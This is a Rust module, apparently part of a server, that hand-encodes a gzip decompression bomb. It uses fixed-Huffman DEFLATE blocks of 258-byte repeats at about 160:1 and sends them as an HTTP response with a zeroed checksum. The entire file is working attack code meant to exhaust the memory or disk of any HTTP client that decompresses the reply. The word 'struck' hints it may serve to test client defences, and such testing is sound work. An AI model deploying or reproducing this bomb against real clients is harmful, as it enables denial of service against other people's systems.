//! A gzip bomb, written by hand: fixed Huffman codes, and matches of 258 bytes
//! that take 13 bits each (about 160 : 1).

use std::io;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use crate::server::JSON;

/// Sends `reply` with its word "struck" grown to this many bytes, compressed.
pub async fn send(socket: &mut TcpStream, reply: &str, size: u64) -> io::Result<()> {
    let head =
        format!("HTTP/1.1 200 OK\r\n{JSON}\r\nContent-Encoding: gzip\r\nConnection: close\r\n\r\n");
    socket.write_all(head.as_bytes()).await?;
    socket
        .write_all(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255])
        .await?;
    let (before, after) = reply.split_once("struck").unwrap_or((reply, ""));
    let mut deflate = Deflate::default();
    deflate.bits(0b011, 3);
    deflate.literals(before.as_bytes());
    deflate.literals(b"A");
    for _ in 0..size / 258 {
        deflate.repeat_258();
        if deflate.out.len() > 64 * 1024 {
            socket.write_all(&deflate.out).await?;
            deflate.out.clear();
        }
    }
    deflate.literals(after.as_bytes());
    deflate.huffman(0, 7);
    deflate.bits(0, 7);
    socket.write_all(&deflate.out).await?;
    let length = before.len() as u64 + 1 + size / 258 * 258 + after.len() as u64;
    // The checksum of a bomb need not be right: it goes off before.
    socket.write_all(&[0; 4]).await?;
    socket.write_all(&(length as u32).to_le_bytes()).await
}

/// The bits of one deflate block.
#[derive(Default)]
struct Deflate {
    out: Vec<u8>,
    held: u64,
    count: u32,
}

impl Deflate {
    /// Adds bits, the lowest first.
    fn bits(&mut self, value: u64, count: u32) {
        self.held |= value << self.count;
        self.count += count;
        while self.count >= 8 {
            self.out.push(self.held as u8);
            self.held >>= 8;
            self.count -= 8;
        }
    }

    /// Adds a Huffman code, the highest bit first.
    fn huffman(&mut self, code: u64, count: u32) {
        self.bits(code.reverse_bits() >> (64 - count), count);
    }

    fn literals(&mut self, text: &[u8]) {
        for &byte in text {
            let byte = u64::from(byte);
            if byte < 144 {
                self.huffman(0x30 + byte, 8);
            } else {
                self.huffman(0x190 + byte - 144, 9);
            }
        }
    }

    /// Length 258 (symbol 285), distance 1 (symbol 0).
    fn repeat_258(&mut self) {
        self.huffman(0xc0 + 285 - 280, 8);
        self.huffman(0, 5);
    }
}
